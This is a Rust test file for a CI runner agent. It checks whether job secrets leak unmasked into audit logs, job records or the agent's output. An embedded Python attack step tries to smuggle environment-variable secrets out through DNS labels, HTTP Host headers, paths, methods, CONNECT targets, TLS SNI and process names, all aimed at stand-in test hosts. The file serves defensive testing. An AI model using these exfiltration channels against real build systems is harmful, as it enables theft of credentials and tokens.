//! Can a job get a `deliver: env` secret, or a form the README says is masked, unmasked
//! into a host-side artefact (audit log, summary, job record, the agent's stdout and
//! stderr)? Prints every form it finds (`FINDING` lines, promised or not) and fails on
//! the promised ones. An attack run found three: a value quoted as a DNS label in
//! presentation form, job and step names in the record and on stderr, and a value
//! spelled by the caret notation of a control character after masking.

use std::path::Path;
use std::process::Output;

use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use base64::Engine as _;
use runner_agent_tests::agent::{describe, files_under, python_step, random_value, World};
use runner_agent_tests::netbed::{allowed_test_config, settle, NetBed, TRAP_IPS};
use runner_agent_tests::require_privilege;

const SECRETS: &str = "    secrets:\n      TOKEN: { deliver: env }\n      UPPER: { deliver: env }\n      SHORT: { deliver: env }\n";

const PRELUDE: &str = r#"
import base64, re, urllib.parse
def show(label, out):
    print("ATTEMPT", label, "->", repr(out[:60]), flush=True)
NS = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
D = (NS, 53)
"#;

const ATTACK: &str = r#"
tok = os.environ["TOKEN"]
up = os.environ["UPPER"]
short = os.environ["SHORT"]
C = "Connection: close\r\n"
for name, v in (("tok", tok), ("up", up), ("short", short)):
    b = v.encode()
    # DNS: the value as one raw label (invalid name: the reason quotes it), and as a
    # valid label (lower-cased by the filter).
    udp("dns-raw-" + name, q([b, b"allowed", b"test"]), D)
    udp("dns-raw-bare-" + name, q([b]), D)
    # Two questions: the reason names them.
    two = struct.pack("!HHHHHH", 0x4343, 0x0100, 2, 0, 0, 0) + wire_name([b, b"allowed", b"test"]) + u16(1) + u16(1) + wire_name([b"x", b"allowed", b"test"]) + u16(1) + u16(1)
    udp("dns-two-" + name, two, D)
    # AAAA / TXT of a valid-looking name.
    udp("dns-txt-" + name, q([b.lower(), b"allowed", b"test"], qtype=16), D)
    # Host header, path (raw, percent upper/lower, base64), method.
    show("host-" + name, raw(E, ("GET http://allowed.test/ok HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (v, C)).encode()))
    show("abs-host-" + name, raw(E, ("GET http://%s.allowed.test/ok HTTP/1.1\r\nHost: x\r\n%s\r\n" % (v, C)).encode()))
    pq = urllib.parse.quote(v, safe="")
    show("path-pct-" + name, raw(E, ("GET http://nope.test/%s HTTP/1.1\r\nHost: nope.test\r\n%s\r\n" % (pq, C)).encode()))
    pql = re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), pq)
    show("path-pctl-" + name, raw(E, ("GET http://nope.test/%s HTTP/1.1\r\nHost: nope.test\r\n%s\r\n" % (pql, C)).encode()))
    show("path-b64-" + name, raw(E, ("GET http://nope.test/%s HTTP/1.1\r\nHost: nope.test\r\n%s\r\n" % (base64.b64encode(b).decode(), C)).encode()))
    show("path-b64u-" + name, raw(E, ("GET http://nope.test/%s HTTP/1.1\r\nHost: nope.test\r\n%s\r\n" % (base64.urlsafe_b64encode(b).decode().rstrip("="), C)).encode()))
    show("method-" + name, raw(E, ("%s http://nope.test/ HTTP/1.1\r\nHost: nope.test\r\n%s\r\n" % (v, C)).encode()))
    show("connect-" + name, raw(E, ("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (v, v)).encode()))
    # SNI inside an allowed tunnel, and transparent TLS.
    show("sni-" + name, raw(E, [b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", client_hello([b])], pause=0.2))
    show("sni-tp-" + name, raw(("198.51.100.10", 443), client_hello([b])))
    # comm: the fence's denial and a seccomp refusal carry it.
    setcomm(v[:15])
    udp("comm-" + name, b"x", (sys.argv[1], 9999))
    r = libc.syscall(321, 0, 0, 0)
    print("ATTEMPT bpf-" + name, r, ctypes.get_errno(), flush=True)
    setcomm("python3")
print("DONE", flush=True)
"#;

fn b64_forms(v: &[u8]) -> Vec<(String, String)> {
    vec![
        ("b64".into(), STANDARD.encode(v)),
        ("b64-nopad".into(), STANDARD_NO_PAD.encode(v)),
        ("b64url".into(), URL_SAFE.encode(v)),
        ("b64url-nopad".into(), URL_SAFE_NO_PAD.encode(v)),
    ]
}

fn pct(v: &[u8], upper: bool, plus: bool) -> String {
    let mut out = String::new();
    for &b in v {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(b as char);
        } else if b == b' ' && plus {
            out.push('+');
        } else if upper {
            out.push_str(&format!("%{b:02X}"));
        } else {
            out.push_str(&format!("%{b:02x}"));
        }
    }
    out
}

/// hickory's presentation form of one label (`Label::write_ascii`).
fn dns_escaped(v: &[u8]) -> String {
    let mut out = String::new();
    for (i, &b) in v.iter().enumerate() {
        let c = b as char;
        let safe = c.is_ascii_alphanumeric() || (c == '-' && i > 0) || c == '_';
        if safe {
            out.push(c);
        } else if b > 0x20 && b < 0x7f {
            out.push('\\');
            out.push(c);
        } else {
            out.push_str(&format!("\\{b:03o}"));
        }
    }
    out
}

/// (name, text, promised by the README?)
fn forms(value: &str) -> Vec<(String, String, bool)> {
    let v = value.as_bytes();
    let mut out: Vec<(String, String, bool)> = vec![("raw".into(), value.into(), true)];
    out.extend(b64_forms(v).into_iter().map(|(n, t)| (n, t, true)));
    for upper in [true, false] {
        for plus in [false, true] {
            out.push((
                format!("pct-upper{upper}-plus{plus}"),
                pct(v, upper, plus),
                true,
            ));
        }
    }
    let json = serde_json::to_string(value).unwrap();
    out.push(("json".into(), json[1..json.len() - 1].to_owned(), true));
    out.push(("lower".into(), value.to_ascii_lowercase(), true));
    // Not promised (informational).
    out.push(("upper".into(), value.to_ascii_uppercase(), false));
    // Promised since an attack run found the DNS filter quoting a value this way.
    out.push(("dns-escaped".into(), dns_escaped(v), true));
    out.push((
        "dns-escaped-lower".into(),
        dns_escaped(value.to_ascii_lowercase().as_bytes()),
        false,
    ));
    let dj = serde_json::to_string(&dns_escaped(v)).unwrap();
    out.push((
        "dns-escaped-json".into(),
        dj[1..dj.len() - 1].to_owned(),
        true,
    ));
    if value.len() > 15 {
        out.push(("prefix15".into(), value[..15].to_owned(), false));
    }
    out.retain(|(_, t, _)| t.len() >= 4 || t == value);
    out.dedup_by(|a, b| a.1 == b.1);
    out
}

/// Every artefact: (name, text).
fn artefacts(world: &World, output: &Output, audit: &Path) -> Vec<(String, String)> {
    let mut out = vec![
        (
            "stdout".to_owned(),
            String::from_utf8_lossy(&output.stdout).into_owned(),
        ),
        (
            "stderr".to_owned(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        ),
        (
            "audit".to_owned(),
            String::from_utf8_lossy(&std::fs::read(audit).unwrap_or_default()).into_owned(),
        ),
    ];
    for (path, bytes) in files_under(&world.state_dir.join("jobs")) {
        out.push((
            path.display().to_string(),
            String::from_utf8_lossy(&bytes).into_owned(),
        ));
    }
    out
}

/// Prints every form of every value found in an artefact; returns the promised ones.
fn report(arts: &[(String, String)], values: &[&str]) -> Vec<String> {
    let mut promised = Vec::new();
    for value in values {
        for (form, text, is_promised) in forms(value) {
            for (name, body) in arts {
                for (n, line) in body.lines().enumerate() {
                    if line.contains(&text) {
                        let msg = format!(
                            "FINDING promised={is_promised} form={form} artefact={name} line={n}: {line}"
                        );
                        println!("{msg}");
                        if is_promised {
                            promised.push(msg);
                        }
                    }
                }
            }
        }
    }
    promised
}

fn bed_and_world() -> (NetBed, World) {
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", SECRETS));
    (bed, world)
}

fn hex_tail() -> String {
    random_value("x")[2..].to_owned()
}

/// The egress attacks, with secrets full of characters special to DNS, JSON and the
/// masker's forms.
fn attack(world: &World, name: &str, values: [&str; 3]) -> (Output, Vec<(String, String)>) {
    world.set_secret("default", "TOKEN", values[0]);
    world.set_secret("default", "UPPER", values[1]);
    world.set_secret("default", "SHORT", values[2]);
    let yaml = format!(
        "name: {name}\nsteps:\n{}",
        python_step(name, PRELUDE, ATTACK, &TRAP_IPS[0].to_string())
    );
    let job = world.job(&format!("{name}.yaml"), &yaml);
    let (output, audit) = world.run_audited_to(&job);
    settle();
    println!("{}", describe(&output));
    let arts = artefacts(world, &output, &audit);
    for (n, body) in &arts {
        if n != "stdout" && n != "stderr" {
            println!("--- {n}\n{body}");
        }
    }
    (output, arts)
}

#[test]
fn special_characters_in_dns_host_path_sni_comm() {
    require_privilege!();
    let (_bed, world) = bed_and_world();
    let tok = format!("Tk!/+=$\"\\~.{}", &hex_tail()[..20]);
    let up = format!("UpCase-{}", &hex_tail()[..20]);
    let short = format!("S!\"\\{}", &hex_tail()[..6]);
    let (output, arts) = attack(&world, "special", [&tok, &up, &short]);
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("DONE"),
        "{}",
        describe(&output)
    );
    let promised = report(&arts, &[&tok, &up, &short]);
    assert!(promised.is_empty(), "unmasked: {promised:#?}");
}

#[test]
fn plain_secret_in_dns_and_names_with_info_logging() {
    require_privilege!();
    let (_bed, world) = bed_and_world();
    let world = world.with_agent_env("RUNNER_AGENT_LOG", "info");
    let tok = format!("plain-{}", hex_tail());
    let up = format!("MiXeD-{}", &hex_tail()[..24]);
    let short = format!("sh{}", &hex_tail()[..8]);
    let (_, arts) = attack(&world, "infolog", [&tok, &up, &short]);
    let promised = report(&arts, &[&tok, &up, &short]);
    assert!(promised.is_empty(), "unmasked: {promised:#?}");
}

/// A job file whose job and step names hold the value (the job file's author knows it).
#[test]
fn names_in_the_job_file() {
    require_privilege!();
    let world = World::new("", &allowed_test_config("", SECRETS));
    let tok = format!("nm-{}", hex_tail());
    world.set_secret("default", "TOKEN", &tok);
    world.set_secret("default", "UPPER", "unused-UPPER-value");
    world.set_secret("default", "SHORT", "unused-short");
    let yaml = format!(
        "name: job-{tok}\nsteps:\n  - name: step-{tok}\n    run: |\n      printf 'A\\007B\\n'\n      exit 3\n"
    );
    let job = world.job("names.yaml", &yaml);
    let (output, audit) = world.run_audited_to(&job);
    println!("{}", describe(&output));
    let arts = artefacts(&world, &output, &audit);
    let promised = report(&arts, &[&tok]);
    assert!(promised.is_empty(), "unmasked: {promised:#?}");
}

/// Control characters are shown in caret notation after masking: a value holding `^A`
/// is spelt by a job writing byte 0x01 in its place.
#[test]
fn caret_notation_after_masking() {
    require_privilege!();
    let world = World::new("", &allowed_test_config("", SECRETS));
    let tok = format!("ca^Gret-{}", &hex_tail()[..16]);
    world.set_secret("default", "TOKEN", &tok);
    world.set_secret("default", "UPPER", "unused-UPPER-value");
    world.set_secret("default", "SHORT", "unused-short");
    let yaml = "name: caret\nsteps:\n  - name: s\n    run: |\n      python3 -c 'import os; print(os.environ[\"TOKEN\"].replace(\"^G\", \"\\x07\"))'\n".to_string();
    let job = world.job("caret.yaml", &yaml);
    let (output, audit) = world.run_audited_to(&job);
    println!("{}", describe(&output));
    let arts = artefacts(&world, &output, &audit);
    let promised = report(&arts, &[&tok]);
    assert!(promised.is_empty(), "unmasked: {promised:#?}");
}
